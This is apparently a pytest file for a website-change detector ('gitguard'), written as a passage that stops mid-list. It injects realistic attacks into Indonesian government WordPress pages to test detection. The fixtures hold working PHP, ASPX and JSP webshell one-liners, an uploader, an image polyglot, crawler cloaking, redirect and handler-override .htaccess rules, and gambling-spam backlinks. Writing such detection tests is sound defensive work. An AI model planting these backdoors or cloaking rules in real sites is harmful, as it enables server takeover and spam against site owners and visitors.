"""What makes a change critical: real-looking attacks trip with their reason; WordPress does not."""

from __future__ import annotations

import os
import random
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from gitguard.detect import Side, critical_reasons
from gitguard.detect.rules import reason_codes
from gitguard.detect.webshells import DEEP_CODES
from gitguard.model import Change, Kind, Reason
from gitguard.report.reasons import REASONS

WORDPRESS = Path("/usr/share/wordpress")


def side(data: str | bytes, mode: int = 0o644) -> Side:
    return Side(Kind.FILE, mode, data.encode() if isinstance(data, str) else data, None)


def link(target: str) -> Side:
    return Side(Kind.SYMLINK, 0o777, None, target)


def added(path: str, data: str | bytes) -> list[Reason]:
    return critical_reasons(path, Change.ADDED, None, side(data))


def modified(path: str, old: str | bytes, new: str | bytes) -> list[Reason]:
    return critical_reasons(path, Change.MODIFIED, side(old), side(new))


def codes(reasons: list[Reason]) -> set[str]:
    return {reason.code for reason in reasons}


def details(reasons: list[Reason], code: str) -> list[str]:
    return [reason.detail for reason in reasons if reason.code == code]


# --- realistic clean content the attacks are injected into ---------------------------------

PAGE = """<!DOCTYPE html>
<html lang="id">
<head>
<meta charset="utf-8">
<title>Dinas Komunikasi dan Informatika Kabupaten Sukamaju</title>
<link rel="stylesheet" href="/wp-content/themes/pemkab/style.css">
<script src="/wp-includes/js/jquery/jquery.min.js"></script>
</head>
<body class="home">
<header><h1>Pemerintah Kabupaten Sukamaju</h1>
<nav><a href="/profil/">Profil</a> <a href="/berita/">Berita</a> <a href="/layanan/">Layanan</a>
<a href="/ppid/">PPID</a> <a href="/kontak/">Kontak</a></nav></header>
<main>
<article><h2>Pengumuman Seleksi CPNS Tahun 2024</h2>
<p>Diberitahukan kepada seluruh pelamar bahwa hasil seleksi administrasi dapat dilihat pada
laman <a href="https://sscasn.bkn.go.id/">SSCASN BKN</a>. Pelamar yang dinyatakan lulus
wajib mengikuti Seleksi Kompetensi Dasar sesuai jadwal.</p>
<p>Jadwal pelayanan kantor: Senin s.d. Jumat pukul 08.00 - 16.00 WIB. Kantor berada di
Jl. Merdeka No. 1, Sukamaju.</p></article>
</main>
<footer><p>&copy; 2024 Diskominfo Kabupaten Sukamaju. Seluruh hak cipta dilindungi.</p></footer>
</body>
</html>
"""

THEME_FOOTER = """<?php
/**
 * The template for displaying the footer
 *
 * @package Pemkab
 */
?>
	</div><!-- #content -->
	<footer id="colophon" class="site-footer">
		<div class="site-info">
			<a href="<?php echo esc_url( home_url( '/' ) ); ?>"><?php bloginfo( 'name' ); ?></a>
			<span class="sep"> | </span>
			<?php printf( esc_html__( 'Dikelola oleh %s', 'pemkab' ), 'Diskominfo' ); ?>
		</div>
	</footer>
</div><!-- #page -->
<?php wp_footer(); ?>
</body>
</html>
"""

FUNCTIONS_PHP = """<?php
/**
 * Pemkab theme functions.
 */
function pemkab_setup() {
	add_theme_support( 'title-tag' );
	add_theme_support( 'post-thumbnails' );
	register_nav_menus( array( 'menu-1' => esc_html__( 'Primary', 'pemkab' ) ) );
}
add_action( 'after_setup_theme', 'pemkab_setup' );

function pemkab_scripts() {
	wp_enqueue_style( 'pemkab-style', get_stylesheet_uri(), array(), '1.0.3' );
	wp_enqueue_script( 'pemkab-nav', get_template_directory_uri() . '/js/navigation.js' );
}
add_action( 'wp_enqueue_scripts', 'pemkab_scripts' );
"""

SITEMAP = """<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
{urls}
</urlset>
"""


def sitemap(paths: list[str], host: str = "https://sukamajukab.go.id") -> str:
    urls = "\n".join(
        f"<url><loc>{host}/{p}</loc><lastmod>2024-05-01</lastmod></url>" for p in paths
    )
    return SITEMAP.format(urls=urls)


GOOD_PATHS = [
    "",
    "profil/",
    "profil/visi-misi/",
    "berita/",
    "berita/pengumuman-cpns-2024/",
    "layanan/",
    "ppid/",
    "kontak/",
]

# --- attack samples ------------------------------------------------------------------------

DEFACE_EN = """<html><head><title>Hacked By Mr.Gh0st | Indonesian Cyber Army</title>
<meta name="description" content="Hacked by Mr.Gh0st"></head>
<body bgcolor="black" text="white"><center>
<img src="https://i.imgur.com/skull.gif"><br>
<font color="red" size="7">Hacked By Mr.Gh0st</font><br>
<marquee behavior="alternate"><b>Your Security Is Just An Illusion</b></marquee>
<p>Greetz: ./Sec7or Team - Garuda Security Hacker - Surabaya Black Hat</p>
</center></body></html>
"""

DEFACE_ID = """<!DOCTYPE html><html><head><title>Website Ini Telah Diretas</title></head>
<body style="background:#000;color:#0f0;text-align:center">
<h1>Situs ini telah diretas oleh Garuda Cyber Team</h1>
<p>Tolong perbaiki keamanan website pemerintah. Kami hanya mengingatkan.</p>
</body></html>
"""

HIDDEN_BACKLINKS = """<div style="position:absolute; left:-9999px; top:-9999px;">
<a href="https://slotgacor-maxwin88.xyz/">slot gacor</a>
<a href="https://situs-togel4d.com/">togel online</a>
<a href="https://rtplive-pragmatic.site/">rtp live</a>
</div>
"""

DOORWAY = """<!DOCTYPE html><html><head>
<title>SLOT GACOR HARI INI : Situs Slot Online Gampang Maxwin Terpercaya 2024</title>
<meta name="keywords" content="slot gacor, slot online, situs slot, rtp live, maxwin">
</head><body>
<h1>Slot Gacor Hari Ini</h1>
<p>Slot gacor hari ini adalah situs slot online terpercaya dengan RTP live tertinggi.
Main di bandar togel dan agen sbobet resmi, Pragmatic Play, PG Soft, scatter hitam
mahjong ways, Gates of Olympus kakek zeus maxwin. Daftar slot gacor sekarang, deposit
pulsa tanpa potongan, bonus new member 100.</p>
<a href="https://link-alternatif.example/daftar">DAFTAR</a>
</body></html>
"""

ANTI_GAMBLING_NEWS = """<article><h2>Bupati Sukamaju Imbau Warga Jauhi Judi Online</h2>
<p>Pemerintah Kabupaten Sukamaju bersama Satgas Pemberantasan Judi Online menggelar
sosialisasi bahaya judi online dan togel kepada pelajar. Kominfo telah memblokir ribuan
situs slot online dan agen judi bola. Kecanduan judi online merusak
ekonomi keluarga, kata Bupati. Polres Sukamaju telah menetapkan tiga tersangka.</p>
</article>
"""

CLOAKING_PHP = """<?php
$ua = strtolower($_SERVER['HTTP_USER_AGENT']);
if (preg_match('/googlebot|bingbot|yandex|baiduspider/i', $ua)) {
    echo file_get_contents('https://pastebin.example.com/raw/slot-gacor.txt');
    exit;
}
?>
"""

REFERER_PHP = """<?php
$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';
if (preg_match('/google|bing|yahoo/i', $_SERVER['HTTP_REFERER'])) {
    header('Location: https://daftar-slot88.example/');
    exit;
}
?>
"""

CLOAK_HTACCESS = """# BEGIN WordPress
<IfModule mod_rewrite.c>
RewriteEngine On
RewriteCond %{HTTP_USER_AGENT} (googlebot|bingbot|Google-InspectionTool|yahoo) [NC]
RewriteRule ^(.*)$ https://slot-gacor-maxwin.example/$1 [L,R=302]
RewriteBase /
RewriteRule ^index\\.php$ - [L]
RewriteCond %{REQUEST_FILENAME} !-f
RewriteCond %{REQUEST_FILENAME} !-d
RewriteRule . /index.php [L]
</IfModule>
# END WordPress
"""

WP_HTACCESS = """# BEGIN WordPress
<IfModule mod_rewrite.c>
RewriteEngine On
RewriteBase /
RewriteRule ^index\\.php$ - [L]
RewriteCond %{REQUEST_FILENAME} !-f
RewriteCond %{REQUEST_FILENAME} !-d
RewriteRule . /index.php [L]
</IfModule>
# END WordPress
"""

# The head of a WSO-style shell: it hides from crawlers and keeps its FilesMan action.
WSO_HEAD = """<?php
$auth_pass = "63a9f0ea7bb98050796b649e85481845";
$color = "#df5";
$default_action = 'FilesMan';
if (!empty($_SERVER['HTTP_USER_AGENT'])) {
    $userAgents = array("Google", "Slurp", "MSNBot", "ia_archiver", "Yandex", "Rambler");
    if (preg_match('/' . implode('|', $userAgents) . '/i', $_SERVER['HTTP_USER_AGENT'])) {
        header('HTTP/1.0 404 Not Found');
        exit;
    }
}
@ini_set('error_log', NULL);
"""

UPLOADER = """<?php
error_reporting(0);
echo '<form method="post" enctype="multipart/form-data">';
echo '<input type="file" name="f"><input type="submit" name="up" value="Upload"></form>';
if (isset($_POST['up'])) {
    if (@move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name'])) {
        echo '<b>Sukses</b>';
    }
}
?>
"""

LONG_BASE64 = "".join(random.Random(7).choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(3000))  # noqa: E501
HEX_RUN = "".join(
    f"\\x{b:02x}"
    for b in b"if(isset($_GET['cmd'])){echo '<pre>';system($_GET['cmd']);echo '</pre>';}"
    b"else{echo file_get_contents(__FILE__);}"
)
SYMBOL_SOUP = "$_=''; $__=('{'^'<').('{'^'>').('{'^';').('{'^'/'); " * 20
JS_OBFUSCATED = ";".join(f"var _0x{i:04x}=_0x{i + 1:04x}(0x{i:x})" for i in range(40))
JPEG_HEAD = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
PNG_HEAD = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06"


def blob(head: bytes, size: int, seed: int = 1) -> bytes:
    rng = random.Random(seed)
    return head + bytes(rng.getrandbits(8) for _ in range(size))


# Each case: (id, path, change, old, new, the code it must give, a piece of its detail).
Case = tuple[str, str, Change, "Side | None", "Side | None", str, str]
CASES: list[Case] = [
    # defacement, English and Indonesian
    ("deface-en", "hacked.html", Change.ADDED, None, side(DEFACE_EN), "defacement_text",
     "hacked by mr.gh0st"),
    ("deface-id", "berita/index.html", Change.MODIFIED, side(PAGE), side(DEFACE_ID),
     "defacement_text", "diretas oleh garuda"),
    ("deface-di-hack-oleh", "profil/index.php", Change.MODIFIED, side(PAGE),
     side(PAGE.replace("<main>", "<main><h1>Di Hack Oleh: ./KidzCyber007</h1>")),
     "defacement_text", "di hack oleh"),
    ("deface-leet-tags", "layanan/index.html", Change.MODIFIED, side(PAGE),
     side(PAGE.replace("<main>", "<main><h2>H4ck3d <span>By</span> ZeroDay</h2>")),
     "defacement_text", "h4ck3d by zeroday"),
    ("deface-split-letters", "ppid.html", Change.MODIFIED, side(PAGE),
     side(PAGE.replace("<main>", "<main><h1>H<b>a</b>cked by Anon</h1>")),
     "defacement_text", "hacked by anon"),
    ("deface-illusion", "kontak.html", Change.MODIFIED, side(PAGE),
     side(PAGE.replace("</main>", "<p>Security is an illusion!</p></main>")),
     "defacement_text", "security is an illusion"),
    ("deface-greetz", "notes.txt", Change.ADDED, None,
     side("gr33tz to all Indonesian hackers\n"), "defacement_text", "gr33tz"),
    ("deface-owned-title", "galeri/index.html", Change.MODIFIED, side(PAGE),
     side(PAGE.replace("<title>Dinas", "<title>Owned by Sh4d0w | Dinas")),
     "defacement_text", "owned by sh4d0w"),
    ("deface-was-here", "profil.html", Change.MODIFIED, side(PAGE),
     side(PAGE.replace("<main>", "<main><marquee>l0rdX was here</marquee>")),
     "defacement_text", "was here"),
    ("deface-touched-note", "wp-content/uploads/readme.txt", Change.ADDED, None,
     side("touched by ./Mr.Kikuk\n"), "defacement_text", "touched by"),
    ("deface-in-js", "wp-content/themes/pemkab/js/navigation.js", Change.MODIFIED,
     side("(function(){ var nav = document.getElementById('site-navigation'); })();\n"),
     side("document.body.innerHTML = '<h1>Hacked by Anonymous Indonesia</h1>';\n"),
     "defacement_text", "hacked by anonymous indonesia"),
    # online gambling
    ("hidden-backlinks", "wp-content/themes/pemkab/footer.php", Change.MODIFIED,
     side(THEME_FOOTER), side(THEME_FOOTER.replace("</body>", HIDDEN_BACKLINKS + "</body>")),
     "hidden_links", "https://slotgacor-maxwin88.xyz/"),
    ("hidden-backlinks-gambling", "wp-content/themes/pemkab/footer.php", Change.MODIFIED,
     side(THEME_FOOTER), side(THEME_FOOTER.replace("</body>", HIDDEN_BACKLINKS + "</body>")),
     "gambling_spam", "slot gacor"),
    ("hidden-display-none", "wp-content/themes/pemkab/header.php", Change.MODIFIED,
     side(PAGE), side(PAGE.replace("</footer>", '<div style="display:none"><a href='
                                   '"https://bandar.example/">Bandar Slot</a></div></footer>')),
     "hidden_links", "https://bandar.example/"),
    ("hidden-font-size-0", "index.htm.bak.html", Change.MODIFIED, side(PAGE),
     side(PAGE.replace("</footer>", '<p style="font-size:0px;color:#fff">'
                       '<a href="https://s.example/">situs</a></p></footer>')),
     "hidden_links", "https://s.example/"),
    ("hidden-by-class", "profil/struktur.html", Change.MODIFIED, side(PAGE),
     side(PAGE.replace("</head>", "<style>.sponsor-x{position:absolute;left:-5000px}</style>"
                       "</head>")
          .replace("</footer>", '<div class="clear sponsor-x"><a href="https://toto.example/">'
                   "x</a></div></footer>")),
     "hidden_links", "https://toto.example/"),
    ("doorway", "berita/slot-gacor-hari-ini.html", Change.ADDED, None, side(DOORWAY),
     "doorway_page", "slot gacor"),
    ("gambling-meta-keywords", "layanan/index.html", Change.MODIFIED, side(PAGE),
     side(PAGE.replace("<meta charset", '<meta name="keywords" content="judi online, '
                       'slot gacor"><meta charset')),
     "gambling_spam", "judi online"),
    ("gambling-slug", "wp-content/themes/pemkab/header.php", Change.MODIFIED, side(PAGE),
     side(PAGE.replace('<a href="/ppid/">', '<a href="/scatter-hitam/">')),
     "gambling_spam", "scatter hitam"),
    ("sitemap-gambling", "sitemap.xml", Change.MODIFIED, side(sitemap(GOOD_PATHS)),
     side(sitemap([*GOOD_PATHS, "?page=slot-gacor-maxwin", "berita/judi-online-terpercaya/"])),
     "sitemap_gambling", "slot-gacor-maxwin"),
    ("sitemap-other-host", "post-sitemap.xml", Change.MODIFIED, side(sitemap(GOOD_PATHS)),
     side(sitemap(GOOD_PATHS) + sitemap(["p/9812"], host="https://cheap-pills.example")),
     "sitemap_rewritten", "cheap-pills.example"),
    ("sitemap-replaced", "sitemap.xml", Change.MODIFIED, side(sitemap(GOOD_PATHS)),
     side(sitemap([f"p/{n}.html" for n in range(12)])), "sitemap_rewritten", "/p/0.html"),
    ("sitemap-flooded", "sitemap.xml", Change.MODIFIED, side(sitemap(GOOD_PATHS)),
     side(sitemap(GOOD_PATHS + [f"news/{n}/" for n in range(300)])), "sitemap_rewritten",
     "/news/0/"),
    ("sitemap-new", "wp-content/uploads/sitemap-posts.xml", Change.ADDED, None,
     side(sitemap(GOOD_PATHS)), "sitemap_new", "sitemap-posts.xml"),
    ("verification-file", "google1a2b3c4d5e6f7a8b.html", Change.ADDED, None,
     side("google-site-verification: google1a2b3c4d5e6f7a8b.html"), "search_verification",
     "google1a2b3c4d5e6f7a8b.html"),
    ("verification-meta", "wp-content/themes/pemkab/header.php", Change.MODIFIED, side(PAGE),
     side(PAGE.replace("<meta charset", '<meta name="google-site-verification" '
                       'content="Xy9-AbCdEf012"><meta charset')),
     "search_verification", "google-site-verification=xy9-abcdef012"),
    # webshells and backdoors
    ("eval-post", "wp-content/uploads/2024/05/x.php", Change.ADDED, None,
     side("<?php @eval($_POST['cmd']); ?>"), "code_from_request", "eval($_post['cmd'])"),
    ("assert-request", "wp-includes/class-wp-cache.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "@assert($_REQUEST['a']);\n"), "code_from_request", "assert("),
    ("eval-input", "wp-content/plugins/seo/seo.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "eval(file_get_contents('php://input'));\n"),
     "code_from_request", "php://input"),
    ("eval-header", "wp-content/themes/pemkab/functions.php", Change.MODIFIED,
     side(FUNCTIONS_PHP), side(FUNCTIONS_PHP + "if (isset($_SERVER['HTTP_X_DEBUG'])) "
                               "{ eval($_SERVER['HTTP_X_DEBUG']); }\n"),
     "code_from_request", "eval($_server['http_x_debug'])"),
    ("eval-base64", "wp-content/themes/pemkab/functions.php", Change.MODIFIED,
     side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP.replace("<?php\n", "<?php eval(base64_decode('ZWNobyAiaGkiOw=='));"
                                "\n")),
     "code_from_decoded", "eval(base64_decode("),
    ("eval-gzinflate-chain", "wp-content/themes/pemkab/functions.php", Change.MODIFIED,
     side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "eval(gzinflate(str_rot13(base64_decode('rUl6AQA='))));\n"),
     "code_from_decoded", "gzinflate(str_rot13("),
    ("decoder-chain", "wp-content/themes/pemkab/functions.php", Change.MODIFIED,
     side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "$t = gzinflate(str_rot13(base64_decode('rUl6AQA=')));\n"),
     "obfuscated_code", "gzinflate(str_rot13("),
    ("eval-var-from-decode", "wp-content/plugins/hello.php", Change.MODIFIED,
     side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "$k = str_rot13(gzuncompress($d));\n$x = $k;\neval($x);\n"),
     "code_from_decoded", "eval($x)"),
    ("eval-cookie", "wp-content/plugins/hello.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "if (isset($_COOKIE['k'])) { $c = $_COOKIE['k'];\n"
          "  eval(str_rot13($c)); }\n"),
     "code_from_request", "eval(str_rot13($c))"),
    ("system-request", "images/logo.php", Change.ADDED, None,
     side("<?php if(isset($_REQUEST['x'])){ echo '<pre>'; system($_REQUEST['x']); } ?>"),
     "shell_from_request", "system($_request['x'])"),
    ("shell-exec-var", "wp-content/plugins/akismet/class.akismet-cli.php", Change.MODIFIED,
     side(FUNCTIONS_PHP), side(FUNCTIONS_PHP + "$cmd = trim($_GET['c']);\n"
                               "echo shell_exec($cmd . ' 2>&1');\n"),
     "shell_from_request", "shell_exec($cmd"),
    ("passthru-post", "wp-content/uploads/wpcf7/cache.php", Change.ADDED, None,
     side("<?php passthru(base64_decode($_POST['p'])); ?>"), "shell_from_request",
     "passthru("),
    ("proc-open", "wp-content/plugins/x/y.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "$p = proc_open($_POST['c'], array(1 => array('pipe','w')), $io);\n"),
     "shell_from_request", "proc_open($_post['c']"),
    ("backticks", "wp-content/plugins/x/y.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "echo `$_GET[c]`;\n"), "shell_from_request", "`$_get[c]`"),
    ("variable-function", "wp-content/plugins/x/y.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "$x = $_GET['f'];\n$x($_GET['a']);\n"), "code_from_request",
     "$x($_get['a'])"),
    ("spelled-function", "wp-content/plugins/x/y.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + '$f = "sys" . "tem";\n$f($_POST["c"]);\n'), "code_from_request",
     '$f($_post["c"])'),
    ("request-called", "wp-content/plugins/x/y.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "$_GET['a']($_GET['b']);\n"), "code_from_request", "$_get['a']("),
    ("call-user-func", "wp-content/plugins/x/y.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "call_user_func($_REQUEST['f'], $_REQUEST['a']);\n"),
     "code_from_request", "call_user_func($_request['f']"),
    ("array-map-callback", "wp-content/plugins/x/y.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "array_map($_POST['f'], array($_POST['a']));\n"),
     "code_from_request", "array_map($_post['f']"),
    ("usort-callback", "wp-content/plugins/x/y.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "$a = array(1, 2);\nusort($a, $_GET['cb']);\n"),
     "code_from_request", "usort($a, $_get['cb']"),
    ("create-function", "wp-content/plugins/x/y.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "$fn = create_function('', $_POST['code']);\n$fn();\n"),
     "code_from_request", "create_function('', $_post['code'])"),
    ("preg-replace-e", "wp-content/plugins/x/y.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "@preg_replace('/.*/e', $_POST['code'], '');\n"),
     "preg_replace_eval", "preg_replace('/.*/e'"),
    ("filesman", "wp-admin/css/colors/blue/x.php", Change.ADDED, None,
     side("<?php\n$default_action = 'FilesMan';\n$default_use_ajax = true;\n"),
     "webshell_marker", "filesman"),
    ("indoxploit", "wp-content/uploads/2023/11/idx.php", Change.ADDED, None,
     side("<?php\n/* IndoXploit Shell v3 */\necho '<title>IndoXploit</title>';\n"),
     "webshell_marker", "indoxploit"),
    ("mini-shell", "tmp/m.php", Change.ADDED, None,
     side("<?php echo '<h1>Mini Shell</h1>'; echo php_uname(); ?>"), "webshell_marker",
     "mini shell"),
    ("b374k", "assets/b.php", Change.ADDED, None,
     side("<?php $GLOBALS['pass'] = 'b374k'; ?>"), "webshell_marker", "b374k"),
    ("long-base64", "wp-content/plugins/x/loader.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + f"$data = '{LONG_BASE64}';\n"), "obfuscated_code",
     "'" + LONG_BASE64[:20].lower()),
    ("hex-escapes", "wp-content/plugins/x/loader.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + f'$s = "{HEX_RUN}";\n'), "obfuscated_code", "\\x69\\x66\\x28"),
    ("symbol-soup", "wp-content/plugins/x/loader.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + SYMBOL_SOUP + "\n"), "obfuscated_code", "$_='';"),
    ("chr-chain", "wp-content/plugins/x/loader.php", Change.MODIFIED, side(FUNCTIONS_PHP),
     side(FUNCTIONS_PHP + "$f = " + ".".join(f"chr({c})" for c in b"base64_decode") + ";\n"),
     "obfuscated_code", "chr(98).chr(97)"),
    # The family marker decides; without it, the crawler check gives the shell away.
    ("wso-cloaks", "wp-content/uploads/2024/02/wp-conf.php", Change.ADDED, None,
     side(WSO_HEAD.replace("FilesMan", "Beranda")), "php_cloaking", "HTTP_USER_AGENT ~ SLURP"),
    ("wso-marker", "wp-content/uploads/2024/02/wp-conf.php", Change.ADDED, None,
     side(WSO_HEAD), "webshell_marker", "filesman"),
    ("include-ico", "index.php", Change.MODIFIED, side("<?php require 'wp-blog-header.php';\n"),
     side("<?php\n@include \"\\057hom\\145/sukamaju/public_html/wp-includes/images/"
          "\\x2ef1c4.ico\";\nrequire 'wp-blog-header.php';\n"),
     "include_disguised", "/home/sukamaju/public_html/wp-includes/images/.f1c4.ico"),
    ("include-jpg", "wp-content/themes/pemkab/functions.php", Change.MODIFIED,
     side(FUNCTIONS_PHP), side(FUNCTIONS_PHP + "include_once('../uploads/2023/08/bg.jpg');\n"),
     "include_disguised", "../uploads/2023/08/bg.jpg"),
    ("upload-handler", "wp-content/uploads/up.php", Change.ADDED, None, side(UPLOADER),
     "upload_handler", "move_uploaded_file($_files['f']['tmp_name']"),
    ("php-in-jpeg", "wp-content/uploads/2024/05/logo.jpg", Change.ADDED, None,
     side(blob(JPEG_HEAD, 2000) + b"<?php system($_GET['c']); ?>" + blob(b"", 500, 2)),
     "image_polyglot", "<?php system($_GET['c'])"),
    ("php-in-ico", "wp-includes/images/.favicon_3f1a.ico", Change.ADDED, None,
     side("<?php @eval(base64_decode('ZWNobyAxOw==')); ?>"), "code_from_decoded",
     "eval(base64_decode("),
    ("aspx-chopper", "upload/x.aspx", Change.ADDED, None,
     side('<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>'),
     "code_from_request", 'eval(request.item["z"]'),
    ("jsp-shell", "files/cmd.jsp", Change.ADDED, None,
     side('<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec('
          'request.getParameter("cmd")); %>'),
     "shell_from_request", "runtime.getruntime().exec(request.getparameter"),
    ("js-eval-atob", "wp-includes/js/wp-embed.min.js", Change.MODIFIED,
     side("!function(){'use strict';}();\n"),
     side("!function(){'use strict';}();\neval(atob('ZG9jdW1lbnQud3JpdGUoMSk='));\n"),
     "code_from_decoded", "eval(atob("),
    ("js-packer", "wp-content/themes/pemkab/js/navigation.js", Change.MODIFIED,
     side("var a = 1;\n"),
     side("var a = 1;\neval(function(p,a,c,k,e,d){e=function(c){return c};return p}"
          "('0 1',2,2,'var|x'.split('|'),0,{}))\n"),
     "code_from_decoded", "eval(function(p,a,c,k,e,"),
    ("js-obfuscator", "wp-content/themes/pemkab/js/navigation.js", Change.MODIFIED,
     side("var a = 1;\n"), side("var a = 1;\n" + JS_OBFUSCATED + "\n"), "obfuscated_code",
     "_0x"),
    # new scripts and names
    ("new-php-uploads", "wp-content/uploads/2024/05/cache.php", Change.ADDED, None,
     side("<?php echo 1;"), "new_script_upload", ".php"),
    ("new-php-plugin", "wp-content/plugins/akismet/wp-l0gin.php", Change.ADDED, None,
     side("<?php echo 1;"), "new_script", ".php"),
    ("new-phtml-images", "images/banner/shell.phtml", Change.ADDED, None, side("x"),
     "new_script_upload", ".phtml"),
    ("new-php5-upper", "files/Berkas.PhP5", Change.ADDED, None, side("x"),
     "new_script_upload", ".PhP5"),
    ("new-cgi", "cgi-bin/status.cgi", Change.ADDED, None, side("#!/bin/sh\necho ok\n"),
     "new_script", ".cgi"),
    ("new-sh-assets", "assets/js/run.sh", Change.ADDED, None, side("#!/bin/sh\n"),
     "new_script_upload", ".sh"),
    ("new-jspx", "portal/x.jspx", Change.ADDED, None, side("x"), "new_script", ".jspx"),
    ("new-shtml", "berita/x.shtml", Change.ADDED, None, side("x"), "new_script", ".shtml"),
    ("new-phar", "wp-content/uploads/p.phar", Change.ADDED, None, side("x"),
     "new_script_upload", ".phar"),
    ("file-became-script", "wp-content/uploads/2024/x.php", Change.TYPE, link("a.txt"),
     side("<?php echo 1;"), "new_script_upload", ".php"),
    ("double-ext-php-jpg", "wp-content/uploads/2024/05/shell.php.jpg", Change.ADDED, None,
     side(blob(JPEG_HEAD, 100)), "double_extension", "shell.php.jpg"),
    ("double-ext-jpg-php", "wp-content/uploads/2024/05/image.jpg.php", Change.ADDED, None,
     side("<?php echo 1;"), "double_extension", "image.jpg.php"),
    # web server configuration
    ("htaccess-changed", ".htaccess", Change.MODIFIED, side(WP_HTACCESS),
     side(WP_HTACCESS + "# edited\n"), "server_config", ".htaccess"),
    ("htaccess-deleted", "wp-content/uploads/.htaccess", Change.DELETED,
     side("<Files *.php>\ndeny from all\n</Files>\n"), None, "server_config", ".htaccess"),
    ("htaccess-chmod", ".htaccess", Change.MODE, side(WP_HTACCESS),
     side(WP_HTACCESS, 0o666), "server_config", ".htaccess"),
    ("web-config-added", "web.config", Change.ADDED, None, side("<configuration/>"),
     "server_config", "web.config"),
    ("htaccess-cloak-ua", ".htaccess", Change.MODIFIED, side(WP_HTACCESS),
     side(CLOAK_HTACCESS), "config_cloaking", "http_user_agent (googlebot|bingbot"),
    ("htaccess-redirect", ".htaccess", Change.MODIFIED, side(WP_HTACCESS),
     side(CLOAK_HTACCESS), "config_redirect", "https://slot-gacor-maxwin.example/$1"),
    ("htaccess-referer", "berita/.htaccess", Change.ADDED, None,
     side("RewriteEngine On\nRewriteCond %{HTTP_REFERER} (google|bing|yahoo) [NC]\n"
          "RewriteRule .* https://bandar.example/x [R=302,L]\n"),
     "config_cloaking", "http_referer (google|bing|yahoo)"),
    ("htaccess-redirect-directive", ".htaccess", Change.MODIFIED, side(WP_HTACCESS),
     side("Redirect 301 / https://new-domain.example/\n" + WP_HTACCESS),
     "config_redirect", "https://new-domain.example/"),
    ("htaccess-errordocument", ".htaccess", Change.MODIFIED, side(WP_HTACCESS),
     side("ErrorDocument 404 https://spam.example/404.html\n" + WP_HTACCESS),
     "config_redirect", "https://spam.example/404.html"),
    ("htaccess-prepend", ".htaccess", Change.MODIFIED, side(WP_HTACCESS),
     side("php_value auto_prepend_file /tmp/.sess_a1b2.php\n" + WP_HTACCESS),
     "config_prepend", "auto_prepend_file /tmp/.sess_a1b2.php"),
    ("user-ini-prepend", "wp-content/uploads/.user.ini", Change.ADDED, None,
     side('auto_append_file = "/var/www/html/wp-content/uploads/2021/x.png"\n'),
     "config_prepend", "auto_append_file /var/www/html/wp-content/uploads/2021/x.png"),
    ("htaccess-addtype", "wp-content/uploads/.htaccess", Change.ADDED, None,
     side("AddType application/x-httpd-php .jpg .png\n"), "config_handler",
     "addtype application/x-httpd-php .jpg .png"),
    ("htaccess-addhandler", "images/.htaccess", Change.ADDED, None,
     side("AddHandler application/x-httpd-php74 .gif\n"), "config_handler", ".gif"),
    ("htaccess-sethandler", "wp-content/uploads/.htaccess", Change.MODIFIED,
     side("<Files *.php>\ndeny from all\n</Files>\n"),
     side('<FilesMatch "\\.(jpg|ico)$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n'),
     "config_handler", "sethandler application/x-httpd-php"),
    ("htaccess-engine-on", "wp-content/uploads/.htaccess", Change.MODIFIED,
     side("php_flag engine off\n"), side("php_flag engine on\n"), "config_handler",
     "php_flag engine on"),
    ("web-config-redirect", "web.config", Change.MODIFIED, side("<configuration/>"),
     side('<configuration><system.webServer><rewrite><rules><rule name="r">'
          '<match url=".*"/><conditions><add input="{HTTP_USER_AGENT}" pattern="Googlebot"/>'
          '</conditions><action type="Redirect" url="https://judi.example/{R:0}"/></rule>'
          "</rules></rewrite></system.webServer></configuration>"),
     "config_redirect", "https://judi.example/{r:0}"),
    ("web-config-cloak", "web.config", Change.MODIFIED, side("<configuration/>"),
     side('<configuration><add input="{HTTP_USER_AGENT}" pattern="Googlebot|bingbot"/>'
          "</configuration>"),
     "config_cloaking", "googlebot|bingbot"),
    ("web-config-handler", "web.config", Change.MODIFIED, side("<configuration/>"),
     side('<configuration><handlers><add name="img" path="*.jpg" verb="*" '
          'modules="FastCgiModule" scriptProcessor="C:\\php\\php-cgi.exe"/></handlers>'
          "</configuration>"),
